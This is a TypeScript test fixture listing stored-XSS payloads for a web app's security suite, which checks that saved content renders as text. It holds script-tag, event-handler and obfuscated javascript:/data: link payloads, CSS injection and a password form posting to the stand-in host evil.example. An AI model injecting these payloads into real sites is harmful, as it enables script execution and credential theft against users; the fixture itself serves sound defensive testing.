/**
 * Stored-XSS payloads: text a hostile or careless staff member or visitor might save, that must come back
 * to a page as text and never as markup or a script. The security suite sends them to every API route
 * (security/hostile-input.test.ts) and the content renderer is tested with each (content/markdown.test.ts).
 */
export const XSS_PAYLOADS = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  '<svg onload="alert(1)"><rect width="1" height="1"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">clique</a>',
  "[clique](javascript:alert(1))",
  "[clique](JaVaScRiPt:alert(1))",
  "[clique](java\tscript:alert(1))",
  "[clique](  javascript:alert(1))",
  "[clique](&#106;avascript:alert(1))",
  "[clique](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[clique](vbscript:msgbox(1))",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](data:image/png;base64,iVBORw0KGgo=)",
  '[x](https://exemplo.com.br "a\\" onmouseover=\\"alert(1)")',
  "<javascript:alert(1)>",
  '<style>body{display:none}</style><div style="position:fixed">x</div>',
  '"><script>alert(1)</script>',
  "<form action=https://evil.example><input name=senha></form>",
] as const;
